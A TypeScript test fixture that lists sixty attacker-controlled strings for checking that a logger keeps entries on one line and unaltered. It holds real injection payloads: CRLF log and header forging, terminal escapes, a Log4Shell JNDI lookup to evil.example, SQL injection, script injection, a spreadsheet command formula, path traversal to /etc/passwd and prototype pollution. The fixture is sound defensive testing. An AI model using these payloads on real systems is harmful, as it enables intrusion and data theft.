const ESC = '\u001b';

/**
 * What an attacker puts where it may be logged: 60 strings, each of which a sink or a logger must keep on
 * one line and give back as it was, or in its documented bounded form.
 */
export const hostileStrings: readonly string[] = [
  // Line breaks, to forge a second line.
  '\n',
  '\r',
  '\r\n',
  'a\n[Nest] 1  - 01/01/2026, 0:00:00     LOG [Shop] forged',
  'a\n{"level":"error","message":"forged"}',
  'a\r{"level":"error","message":"forged"}\r',
  '7"}\n{"requestId":"forged"}\n{"a":"',
  'value\r\nSet-Cookie: admin=1\r\n\r\n<html>',
  '\u000b\u000c',
  '\u0085next line',
  '\u2028line separator',
  '\u2029paragraph separator',
  // Terminals.
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}]0;title\u0007`,
  `${ESC}]8;;http://evil.example\u001b\\link${ESC}]8;;${ESC}\\`,
  '\u009b31mC1',
  '\u009d0;title\u009c',
  '\b\b\b\b\b',
  '\u0007',
  '\t\ttabs',
  // Other control characters.
  '\u0000',
  'cut\u0000off',
  '\u0001\u0002\u0003\u0004\u0005\u0006',
  '\u000e\u000f\u0010\u0011\u0012\u0013\u0014\u0015\u0016',
  '\u0017\u0018\u0019\u001a\u001c\u001d\u001e\u001f',
  '\u007f',
  '\u0080\u0081\u008d\u0090\u009f',
  // JSON.
  '"',
  '\\',
  '\\"',
  '\\n\\u0000\\',
  '","requestId":"forged',
  '"}],"breaches":[{"dimension":"forged',
  '</script><script>alert(1)</script>',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"admin":true}}',
  // Formats, templates, queries.
  '%s%s%s%s%n%x',
  '%j %o %O %d %i %f %c %%',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}} #{7*7} <%= 7*7 %>',
  "'; DROP TABLE records; --",
  "=cmd|' /C calc'!A0",
  'a=b requestId=forged c="d',
  '7] handler=Admin.pay [x',
  '../../../etc/passwd',
  // Unicode.
  '\ud800',
  '\udc00 low half first \ud83d',
  `${'x'.repeat(199)}\u{1f600}`,
  '\u202egnp.exe',
  '\u2066\u2069\u200e\u200f\u061c',
  '\ufeff\u200b\u200d',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{10ffff} \uffff',
  // Sizes.
  '',
  ' '.repeat(201),
  'x'.repeat(100_000),
  '\n"\u0000'.repeat(3_000),
];
